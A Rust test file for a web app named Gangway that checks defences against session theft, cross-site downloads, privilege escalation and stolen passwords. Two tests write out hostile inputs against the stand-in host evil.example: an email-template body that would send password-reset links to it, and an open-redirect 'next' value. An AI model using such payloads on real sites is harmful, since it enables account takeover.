//! What attackers tried on a running Gangway, each named after what they want.

use crate::domain::auth::role::Role;
use crate::domain::invitations::delivery::Delivery;
use crate::domain::time::{DAY, MINUTE};
use crate::paths;
use crate::tests::app::{TestApp, on_both_engines};
use crate::tests::browser::Browser;
use crate::tests::people;

on_both_engines! {
    an_admin_cannot_read_an_owners_reset_link,
    a_stolen_cookie_does_not_work_for_ever,
    a_flood_of_sign_ins_leaves_twenty_sessions,
    a_stranger_cannot_have_passwords_judged,
    another_site_cannot_start_a_download,
    a_stolen_cookie_does_not_make_an_owner,
    whoever_knows_the_password_is_asked_once_in_ten_minutes,
    a_copied_cookie_ends_once_its_owner_goes_on,
    whoever_uses_a_stolen_password_is_noticed,
    no_owner_is_made_in_secret,
    a_cookie_that_got_lost_on_its_way_signs_no_one_out,
}

const RATE: &str = "/api/account/rate-password";
const PASSWORD: [(&str, &str); 2] = [("password", "seven quiet harbour lanterns"), ("context", "Ana")];

async fn is_judged(browser: &mut Browser) -> bool {
    let answer = browser.call(RATE, &PASSWORD).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    answer.body != "null"
}

async fn a_stranger_cannot_have_passwords_judged(app: &TestApp) {
    let (staff, mut maya) = app.maya().await;
    let ana = app.alder(&staff, Some(Delivery::Link)).await;
    let mut stranger = app.browser();
    assert!(!is_judged(&mut stranger).await);
    for guess in ["x", &"A".repeat(43)] {
        stranger.get(&paths::activation_link(guess)).await;
        assert!(!is_judged(&mut stranger).await, "{guess}");
    }
    assert!(is_judged(&mut maya).await, "who is signed in chooses a new one");
    let mut invited = app.browser();
    invited.open(ana.link.as_ref().unwrap()).await;
    assert!(is_judged(&mut invited).await);
    maya.open(&paths::partner(ana.partner)).await;
    maya.submit("/api/invitations/remove-access", &[]).await;
    assert!(!is_judged(&mut invited).await, "a link that ended opens nothing");
}

async fn another_site_cannot_start_a_download(app: &TestApp) {
    const DOWNLOADS: [&str; 6] = [
        paths::PARTNERS_CSV,
        "/partners/export.csv?q=alder",
        paths::MANAGE_AUDIT_CSV,
        "/partners/import/01890000-0000-7000-8000-000000000000/failed-rows.csv",
        "/partners/01890000-0000-7000-8000-000000000000/contacts/01890000-0000-7000-8000-000000000000/data.json",
        "/manage/team/01890000-0000-7000-8000-000000000000/data.json",
    ];
    let (staff, maya) = app.maya().await;
    app.alder(&staff, Some(Delivery::Link)).await;
    let entries = app.rows("audit").await;
    let status = async |path: &str, site: Option<&str>| {
        let client = reqwest::Client::new();
        let request = client.get(format!("{}{path}", app.url)).header("cookie", maya.cookie_header());
        let request = site.into_iter().fold(request, |request, site| request.header("sec-fetch-site", site));
        request.send().await.unwrap().status().as_u16()
    };
    for path in DOWNLOADS {
        for site in ["cross-site", "same-site", "anything else"] {
            assert_eq!(status(path, Some(site)).await, 403, "{path} from {site}");
        }
    }
    assert_eq!(app.rows("audit").await, entries, "no one has exported anything");
    for site in [None, Some("none"), Some("same-origin")] {
        assert_eq!(status(paths::PARTNERS_CSV, site).await, 200, "{site:?}");
    }
}

async fn an_admin_cannot_read_an_owners_reset_link(app: &TestApp) {
    const SAVE: &str = "/api/templates/save";
    let (_, mut olga) = app.maya().await;
    let (_, mut adam) = app.colleague_as(Role::Admin, "Adam").await;
    for name in ["Password reset", "Address change"] {
        let template = app.template(name).await;
        let page = adam.open(&paths::edit_email_template(template)).await;
        assert!(page.text().contains("Only an owner can change this template"), "{}", page.text());
        let fields = page.fill_in(SAVE, &[("body", "[x](https://evil.example/?u={{ reset_link }}) {{ reset_link }}")]);
        let answer = adam.form_request(SAVE, &fields).header("accept", "application/json").send().await.unwrap();
        assert_eq!(answer.status().as_u16(), 403, "{name}");
        let remove = [("template", template.to_string()), ("version", "1".to_owned()), ("language", "fr".to_owned())];
        let remove: Vec<(&str, &str)> = remove.iter().map(|(name, value)| (*name, value.as_str())).collect();
        assert_eq!(adam.call("/api/templates/remove-language", &remove).await.status, 403, "{name}");
    }
    // Nor does an owner by mistake.
    olga.open(&paths::edit_email_template(app.template("Password reset").await)).await;
    olga.submit(SAVE, &[("body", "[x](https://evil.example/?u={{ reset_link }})")]).await;
    assert!(olga.page.complaint("body").contains("must stand alone"), "{}", olga.page.text());
}

async fn a_stolen_cookie_does_not_work_for_ever(app: &TestApp) {
    let (staff, _) = app.maya().await;
    let (ana, _) = app.active_ana(&staff).await;
    for (person, role, page, days) in
        [(staff.id, Role::Owner, paths::PARTNERS, 14), (ana.contact, Role::Contact, paths::PORTAL, 30)]
    {
        let thief = app.signed_in(person, role).await;
        let began = app.state.now();
        while app.state.now() < began.plus((days - 1) * DAY) {
            assert_eq!(thief.look(page).await.status().as_u16(), 200, "{page}: it is used every day");
            app.settle().await;
            app.wait(DAY / 2);
        }
        app.wait(DAY + 1);
        assert_eq!(thief.look(page).await.status().as_u16(), 303, "{page}");
    }
}

async fn a_flood_of_sign_ins_leaves_twenty_sessions(app: &TestApp) {
    let staff = app.staff().await;
    let (ana, first) = app.active_ana(&staff).await;
    for _ in 0..25 {
        let sign_in = [("form[email]", ana.email.as_str()), ("form[password]", people::PASSWORD)];
        assert!(app.browser().call("/api/account/sign-in", &sign_in).await.status < 400);
    }
    const HELD: &str = "select count(*) from session where person_id in (select id from person where role = 'contact')";
    assert_eq!(app.number(HELD).await, 20);
    assert_eq!(first.look(paths::PORTAL).await.status().as_u16(), 303, "the oldest gave way");
}

/// What needs the password again, on a page of ours: the page, the form and what is filled in.
async fn a_stolen_cookie_does_not_make_an_owner(app: &TestApp) {
    let (staff, mut olga) = app.maya().await;
    let ana = app.alder(&staff, Some(Delivery::Link)).await;
    let (adam, _) = app.colleague_as(Role::Admin, "Adam").await;
    let member = paths::member(adam);
    let partner = paths::partner(ana.partner);
    let data = paths::contact_data(ana.partner, ana.contact);
    let selected = olga.select("remove", &[ana.partner]).await;
    app.wait(11 * MINUTE);
    for (page, action) in [
        (&member, "/api/staff/change-role"),
        (&member, "/api/staff/remove"),
        (&partner, "/api/partners/delete"),
        (&data, "/api/partners/erase-contact"),
    ] {
        olga.open(page).await;
        let fields = olga.page.fill_in(action, &[]);
        let answer = olga.form_request(action, &fields).header("accept", "application/json").send().await.unwrap();
        assert_eq!(
            (answer.status().as_u16(), &*answer.text().await.unwrap()),
            (403, "\"password_needed\""),
            "{action}"
        );
    }
    let fields = olga.open(&selected).await.fill_in("/api/partners/start-bulk", &[]);
    let bulk = olga.form_request("/api/partners/start-bulk", &fields).header("accept", "application/json");
    assert_eq!(bulk.send().await.unwrap().status().as_u16(), 403);
    for path in
        [paths::PARTNERS_CSV, paths::MANAGE_AUDIT_CSV, &[&*data, ".json"].concat(), &[&*member, "/data.json"].concat()]
    {
        let page = olga.get(path).await;
        assert_eq!(page.location().as_deref(), Some("/confirm-password?next=%2F"), "{path}");
    }
    assert_eq!((app.rows("partner").await, app.rows("bulk").await), (1, 0), "nothing was done");
}

async fn whoever_knows_the_password_is_asked_once_in_ten_minutes(app: &TestApp) {
    let (_, mut olga) = app.maya().await;
    let (adam, _) = app.colleague_as(Role::Admin, "Adam").await;
    app.wait(11 * MINUTE);
    olga.open(&paths::member(adam)).await;
    olga.submit("/api/staff/change-role", &[("role", "viewer")]).await;
    assert_eq!(olga.page.h1(), "Enter your password");
    olga.submit("/api/account/confirm-password", &[("password", "not this one")]).await;
    assert_eq!(olga.page.complaint("password"), "This is not your current password.");
    olga.submit("/api/account/confirm-password", &[("password", people::PASSWORD)]).await;
    assert!(olga.page.path.starts_with(&paths::member(adam)), "{}", olga.page.path);
    olga.submit("/api/staff/change-role", &[("role", "viewer")]).await;
    assert!(olga.page.text().contains("Viewer"), "{}", olga.page.text());
    app.wait(5 * MINUTE);
    assert_eq!(olga.get(paths::PARTNERS_CSV).await.status, 200);
    app.wait(5 * MINUTE);
    assert_eq!(olga.get(paths::PARTNERS_CSV).await.status, 303);
    let page = olga
        .call(
            "/api/account/confirm-password",
            &[("form[password]", people::PASSWORD), ("form[next]", "//evil.example")],
        )
        .await;
    assert!(page.location().unwrap().starts_with(paths::ATTENTION), "{page:?}");
}

async fn a_copied_cookie_ends_once_its_owner_goes_on(app: &TestApp) {
    let (_, mut olga) = app.maya().await;
    let mut thief = app.browser();
    thief.cookies = olga.cookies.clone();
    app.wait(DAY);
    olga.open(paths::PARTNERS).await;
    assert_ne!(olga.cookies["gangway_session"], thief.cookies["gangway_session"], "she has another one");
    assert_eq!(thief.look(paths::PARTNERS).await.status().as_u16(), 200, "requests on their way still arrive");
    olga.open(paths::PARTNERS).await;
    app.settle().await;
    app.wait(2 * MINUTE);
    assert_eq!(thief.look(paths::PARTNERS).await.status().as_u16(), 303);
    assert_eq!(olga.open(paths::PARTNERS).await.status, 200);
}

async fn a_cookie_that_got_lost_on_its_way_signs_no_one_out(app: &TestApp) {
    let (_, mut olga) = app.maya().await;
    let before = olga.cookies.clone();
    for _ in 0..3 {
        app.wait(DAY - MINUTE);
        olga.cookies = before.clone();
        assert_eq!(olga.open(paths::PARTNERS).await.status, 200);
        app.settle().await;
    }
    let both = [app.browser(), app.browser()].map(|mut tab| {
        tab.cookies = olga.cookies.clone();
        tab
    });
    app.wait(DAY + MINUTE);
    for mut tab in both {
        assert_eq!(tab.open(paths::PARTNERS).await.status, 200, "two tabs at once");
        olga.cookies = tab.cookies.clone();
        assert_eq!(olga.open(paths::PARTNERS).await.status, 200);
    }
}

/// The recipients and subjects of all emails that are due.
async fn told(app: &TestApp) -> Vec<(String, String)> {
    let mut told: Vec<_> = app.emails().await.into_iter().map(|email| (email.to, email.subject)).collect();
    told.sort();
    told
}

async fn whoever_uses_a_stolen_password_is_noticed(app: &TestApp) {
    let (staff, _) = app.maya().await;
    let (ana, mut hers) = app.active_ana(&staff).await;
    let sign_in = [("form[email]", ana.email.as_str()), ("form[password]", people::PASSWORD)];
    app.emails().await;
    hers.cookies.remove("gangway_session");
    hers.call("/api/account/sign-in", &sign_in).await;
    assert_eq!(told(app).await, [], "her own browser is no news");
    let mut thief = app.browser();
    thief.call("/api/account/sign-in", &sign_in).await;
    let email = app.message().await;
    assert_eq!((&*email.to, &*email.subject), (&*ana.email, "New sign-in to your Acme account"));
    let change = [("form[current]", people::PASSWORD), ("form[password]", people::OTHER_PASSWORD)];
    assert!(thief.call("/api/account/change-password", &change).await.status < 400);
    assert_eq!(told(app).await, [(ana.email.clone(), "Your Acme password has changed".to_owned())]);
    let sign_in = [("form[email]", ana.email.as_str()), ("form[password]", people::OTHER_PASSWORD)];
    for _ in 0..9 {
        app.browser().call("/api/account/sign-in", &sign_in).await;
    }
    assert_eq!(told(app).await.len(), 4, "five a day, so that nothing else is buried");
}

async fn no_owner_is_made_in_secret(app: &TestApp) {
    let (_, mut olga) = app.maya().await;
    let (adam, _) = app.colleague_as(Role::Admin, "Adam").await;
    let (_, _) = app.colleague_as(Role::Owner, "Oscar").await;
    let make = [("form[person]", adam.to_string()), ("form[role]", "owner".to_owned())];
    let make: Vec<(&str, &str)> = make.iter().map(|(name, value)| (*name, value.as_str())).collect();
    assert!(olga.call("/api/staff/change-role", &make).await.status < 400);
    let subjects = [
        ("adam@acme.example", "Your role at Acme has changed"),
        ("maya@acme.example", "Acme has a new owner"),
        ("oscar@acme.example", "Acme has a new owner"),
    ];
    assert_eq!(told(app).await, subjects.map(|(to, subject)| (to.to_owned(), subject.to_owned())));
}
